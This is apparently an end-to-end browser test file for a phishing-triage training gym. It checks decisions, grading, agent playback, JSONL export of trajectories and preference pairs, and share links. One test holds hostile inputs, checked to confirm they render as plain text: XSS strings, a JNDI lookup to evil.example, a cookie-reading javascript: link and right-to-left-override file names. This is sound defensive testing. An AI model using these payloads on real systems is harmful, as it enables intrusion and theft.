// End-to-end tests of the Triage tab (issue 12 item 7): a person decides (trust and fatigue move,
// the caption tells what each message was) and finishes a task to see the grade; an agent is
// watched at Maximum speed (its steps/s printed for the README); the episode's trajectory and
// preference pairs download as JSONL; the share link carries env=triage with the task, seed and
// agent; hostile message text (markup, ${jndi:...}, right-to-left overrides, very long lines)
// renders as text without breaking the layout. At 1280x800 and 390x844 the message and the HUD
// are checked inside the first screen, with screenshots kept in test-output/e2e/triage-*.png.
//
// scripts/test.sh builds dist/ first (trunk build --release --offline).

import assert from 'node:assert/strict';
import { mkdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';

import { REPO_ROOT, SCREENSHOT_DIR, withPage } from './support/browser.mjs';
import { serveDist } from './support/dist.mjs';

const dist = serveDist();

const DESKTOP = { width: 1280, height: 800 };
const PHONE = { width: 390, height: 844 };
const VIEWPORTS = [
  ['desktop', DESKTOP],
  ['phone', PHONE],
];

function link({ task = 'L1', seed = 3, agent = 'human', speed = 'normal', extra = '' } = {}) {
  return `${dist.url}#v=1&task=${task}&seed=${seed}&agent=${agent}&speed=${speed}${extra}&env=triage`;
}

const button = (page, name) => page.getByRole('button', { name, exact: true });
const byTestId = (page, id) => page.getByTestId(id);
const textOf = async (page, id) => (await byTestId(page, id).first().textContent()).trim();
const numberOf = async (page, id) => Number(await textOf(page, id));

async function shoot(page, name) {
  await mkdir(SCREENSHOT_DIR, { recursive: true });
  await page.screenshot({ path: path.join(SCREENSHOT_DIR, `${name}.png`) });
}

async function dismissIntro(page) {
  const gotIt = button(page, 'Got it');
  if (await gotIt.isVisible()) await gotIt.click();
}

/** Opens the settings folded away on a narrow screen. */
async function openSettings(page) {
  const toggle = page.locator('.settings-toggle');
  if ((await toggle.isVisible()) && (await toggle.getAttribute('aria-expanded')) === 'false') await toggle.click();
}

/** Asserts the message and the HUD (and `extra` selectors) are inside the viewport, no horizontal scroll. */
async function assertInFirstScreen(page, viewport, what, extra = {}) {
  await page.evaluate(() => window.scrollTo(0, 0));
  const selectors = { message: '[data-testid=message]', hud: '.hud', ...extra };
  const boxes = await page.evaluate((sel) => {
    const out = {};
    for (const [name, s] of Object.entries(sel)) {
      const r = document.querySelector(s)?.getBoundingClientRect();
      out[name] = r ? { x: r.x, y: r.y, width: r.width, height: r.height } : null;
    }
    return out;
  }, selectors);
  for (const [name, box] of Object.entries(boxes)) {
    assert.ok(box && box.width > 0 && box.height > 0, `${what}: the ${name} is drawn (${JSON.stringify(box)})`);
    const inside =
      box.x >= -0.5 && box.y >= -0.5 && box.x + box.width <= viewport.width + 0.5 && box.y + box.height <= viewport.height + 0.5;
    assert.ok(inside, `${what}: the ${name} ${JSON.stringify(box)} is inside ${viewport.width}x${viewport.height}`);
  }
  const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(scrollWidth <= viewport.width, `${what}: no horizontal scroll (${scrollWidth}px)`);
}

const DECISION_BAR = { allow: 'button[data-key=a]', investigate: 'button[data-key=i]' };

for (const [name, viewport] of VIEWPORTS) {
  test(`triage at ${name}: a person decides, sees trust and fatigue move, and finishes the task with a grade`, async (t) => {
    await withPage(
      t,
      dist.browser,
      link(),
      async (page) => {
        await dismissIntro(page);
        assert.equal(await page.getByRole('tab', { name: /^Triage/ }).getAttribute('aria-selected'), 'true');
        await assertInFirstScreen(page, viewport, 'at the start', name === 'desktop' ? DECISION_BAR : {});
        assert.equal(await numberOf(page, 'trust'), 100);
        assert.equal(await numberOf(page, 'fatigue'), 0);
        assert.equal(await page.locator('[data-testid=grade]').getAttribute('data-final'), 'false');

        // Three warnings tire the user.
        await page.getByRole('slider', { name: 'Confidence' }).fill('0.9');
        assert.equal(await textOf(page, 'confidence'), '90%');
        for (let k = 0; k < 3; k++) {
          await page.getByRole('textbox', { name: 'Reasoning' }).fill('urgent tone and a shortened link');
          await button(page, 'Warn').click();
        }
        assert.equal(await textOf(page, 'step'), '3 / 50');
        assert.ok((await numberOf(page, 'fatigue')) > 0, 'warnings raise fatigue');
        assert.match(await textOf(page, 'caption-head'), /^Step 3: Warn, 90% sure/);
        assert.match(await textOf(page, 'explanation'), /You chose Warn .*It was /s);
        assert.equal(await page.getByRole('textbox', { name: 'Reasoning' }).inputValue(), '', 'the box is ready for the next');
        assert.equal(await byTestId(page, 'recent-item').count(), 3);

        // Blocking everything hurts the user's trust once a safe message is blocked.
        for (let k = 0; k < 8; k++) await button(page, 'Block').click();
        assert.ok((await numberOf(page, 'trust')) < 100, `trust moved: ${await textOf(page, 'trust')}`);
        await assertInFirstScreen(page, viewport, 'mid-episode', name === 'desktop' ? DECISION_BAR : {});
        await shoot(page, `triage-${name}-person`);

        // Allow the rest: letting threats through fails the task.
        for (let k = 0; k < 60; k++) {
          if (await byTestId(page, 'episode-over').isVisible()) break;
          await button(page, 'Allow').click();
        }
        await byTestId(page, 'episode-over').waitFor();
        const grade = page.locator('[data-testid=grade]');
        assert.equal(await grade.getAttribute('data-final'), 'true');
        assert.equal(await grade.getAttribute('data-passed'), 'false');
        const score = await numberOf(page, 'score');
        assert.ok(score >= 0 && score < 0.8, `score ${score} is below L1's threshold`);
        assert.match(await textOf(page, 'verdict'), /^Failed \(< 0\.80\)/);
        assert.match(await textOf(page, 'letter'), /^[A-F][+-]?$/);
        assert.ok(await button(page, 'Allow').isDisabled(), 'no decision after the end');
        assert.match(await textOf(page, 'episodes'), /^1 \(0% passed/);
        await shoot(page, `triage-${name}-graded`);
      },
      { viewport, shot: `triage-${name}-person-full` },
    );
  });

  test(`triage at ${name}: hostile message text renders as text and keeps the layout`, async (t) => {
    await withPage(
      t,
      dist.browser,
      link({ extra: '&show=hostile' }),
      async (page) => {
        const dialogs = [];
        page.on('dialog', async (d) => {
          dialogs.push(d.message());
          await d.dismiss();
        });
        await dismissIntro(page);
        const message = byTestId(page, 'message');
        const text = await textOf(page, 'message-text');
        assert.ok(text.includes("<script>alert('xss')</script><img src=x onerror=alert(1)>"), text.slice(0, 200));
        assert.ok(text.includes('${jndi:ldap://evil.example/x}'));
        assert.ok(text.includes('\u202Etxt.exe\u202C'));
        assert.ok(text.length > 3000);
        assert.ok((await textOf(page, 'subject')).startsWith("<script>alert('subject')</script>"));
        assert.equal(await message.locator('script, img, a, b').count(), 0, 'no markup from the message');
        assert.deepEqual(
          (await byTestId(page, 'link').allTextContents()).map((l) => l.slice(0, 32)),
          ['javascript:alert(document.cookie)'.slice(0, 32), 'http://bit.ly/xxxxxxxxxxxxxxxxxxx'.slice(0, 32)],
        );
        assert.deepEqual(await byTestId(page, 'attachment').allTextContents(), ['invoice\u202Efdp.exe', '<b>bold</b>.zip']);
        await assertInFirstScreen(page, viewport, 'hostile text', name === 'desktop' ? DECISION_BAR : {});
        await shoot(page, `triage-${name}-hostile-message`);
        const box = await message.boundingBox();
        assert.ok(box.height <= viewport.height, `the message box keeps its size (${box.height}px)`);
        // Deciding on it works, and the caption names the sender as text.
        await button(page, 'Block').click();
        assert.match(await textOf(page, 'explanation'), /It was phishing: stopped\./);
        assert.ok((await textOf(page, 'explanation')).includes('paypa1-support.com\u202Egpj.exe'));
        assert.ok((await byTestId(page, 'recent-item').first().textContent()).includes('paypa1'));
        await assertInFirstScreen(page, viewport, 'after the decision');
        assert.deepEqual(dialogs, [], 'no script ran');
        assert.equal(await page.evaluate(() => document.querySelectorAll('script[src*=evil], img[src=x]').length), 0);
        await shoot(page, `triage-${name}-hostile-decided`);
      },
      { viewport, shot: `triage-${name}-hostile-full` },
    );
  });
}

test('triage: an agent watched at Maximum speed finishes tasks; steps/s measured', async (t) => {
  await withPage(t, dist.browser, link({ task: 'L3', agent: 'rule-based', speed: 'max' }), async (page) => {
    await dismissIntro(page);
    assert.ok(await button(page, 'Allow').isDisabled(), 'the agent decides, not the person');
    assert.equal(await page.locator('[data-testid=adversary]').getAttribute('data-mode'), 'probing');
    await button(page, 'Play').click();
    await byTestId(page, 'episode-over').waitFor({ timeout: 20_000 });
    assert.equal(await page.locator('[data-testid=grade]').getAttribute('data-final'), 'true');
    assert.match(await textOf(page, 'verdict'), /^(Passed|Failed)/);
    assert.match(await textOf(page, 'caption-head'), /^Step \d+: /);
    assert.match(await textOf(page, 'explanation'), /The rule-based agent chose /);
    // Keep going for a while and read the player's rate.
    await page.getByLabel('Keep going').check();
    await button(page, 'Play').click();
    await byTestId(page, 'steps-per-second').waitFor({ timeout: 10_000 });
    // Nothing moves while it plays: the stage's boxes are the same in every sample.
    const boxes = () =>
      page.evaluate(() =>
        ['[data-testid=message]', '.recent', '[data-testid=explanation]', '.panel-decide', '[data-testid=grade]', '.hud'].map((s) => {
          const r = document.querySelector(s).getBoundingClientRect();
          return [s, Math.round(r.x), Math.round(r.y), Math.round(r.width), Math.round(r.height)].join(' ');
        }),
      );
    const first = await boxes();
    for (let k = 0; k < 5; k++) {
      await page.waitForTimeout(500);
      assert.deepEqual(await boxes(), first, `sample ${k}`);
    }
    await page.waitForTimeout(500);
    const rate = await numberOf(page, 'steps-per-second');
    await button(page, 'Pause').click();
    assert.ok(rate > 0, `rate ${rate}`);
    const episodes = Number((await textOf(page, 'episodes')).split(' ')[0]);
    assert.ok(episodes > 2, `episodes ${episodes}`);
    t.diagnostic(`triage L3 rule-based at Maximum speed: ${rate} steps/s in the page, ${episodes} episodes`);
    console.log(`triage-bench: L3 rule-based ${rate} steps/s (page, Maximum speed)`);
  });
});

test('triage: the trajectory and the preference pairs download as JSONL; the share link carries the run', async (t) => {
  await withPage(t, dist.browser, link({ task: 'L2', seed: 11 }), async (page) => {
    await dismissIntro(page);
    for (const d of ['Block', 'Allow', 'Investigate', 'Warn', 'Allow']) await button(page, d).click();
    await openSettings(page);
    const download = async (name) => {
      const [file] = await Promise.all([page.waitForEvent('download'), button(page, name).click()]);
      const dir = path.join(REPO_ROOT, 'test-output', 'e2e-downloads');
      await mkdir(dir, { recursive: true });
      const where = path.join(dir, file.suggestedFilename());
      await file.saveAs(where);
      return { name: file.suggestedFilename(), text: await readFile(where, 'utf8') };
    };
    const trajectory = await download('Export trajectory');
    assert.equal(trajectory.name, 'ztgym-triage-L2-human-seed11.jsonl');
    const [header, ...steps] = trajectory.text.trim().split('\n').map((l) => JSON.parse(l));
    assert.equal(header.format, 'ztgym-trajectory');
    assert.equal(steps.length, 5);
    assert.deepEqual(
      steps.map((s) => s.action.decision),
      ['block', 'allow', 'investigate', 'warn', 'allow'],
    );
    assert.equal(header.scenario, 'L2');

    const pairs = await download('Export pairs');
    assert.equal(pairs.name, 'ztgym-triage-L2-human-seed11-pairs.jsonl');
    const lines = pairs.text.trim().split('\n').map((l) => JSON.parse(l));
    assert.ok(lines.length >= 5, `${lines.length} pairs`);
    for (const p of lines) {
      assert.equal(typeof p.prompt, 'string');
      assert.ok(p.prompt.startsWith('Task L2 step '), p.prompt.slice(0, 40));
      assert.notEqual(p.chosen, p.rejected);
      assert.ok(p.margin >= 0.05);
      assert.equal(p.scenario, 'L2');
      assert.equal(p.seed, 11);
      assert.ok(p.step < 5);
      JSON.parse(p.chosen);
    }
    // Step 0's pairs are about the first message (the trajectory holds its digest, not its text).
    assert.ok(lines.find((p) => p.step === 0).prompt.includes('Task L2 step 0'));

    // The share link, and the Task select.
    await page.getByLabel('Task').selectOption('L3');
    await page.getByLabel('Agent').selectOption('random');
    const share = await byTestId(page, 'share-link').inputValue();
    assert.match(share, /#v=1&task=L3&seed=11&agent=random&speed=normal&env=triage$/);
    assert.equal(await textOf(page, 'step'), '0 / 100', 'a new task starts a new episode');
    // A link pasted to the SRE gym switches back, and its old links still open it.
    await page.evaluate(() => {
      window.location.hash = '#v=1&scenario=classic&level=warmup&seed=2&agent=human&speed=normal';
    });
    await page.locator('#service-graph').waitFor();
    assert.equal(await page.getByRole('tab', { name: 'SRE gym' }).getAttribute('aria-selected'), 'true');
  });
});
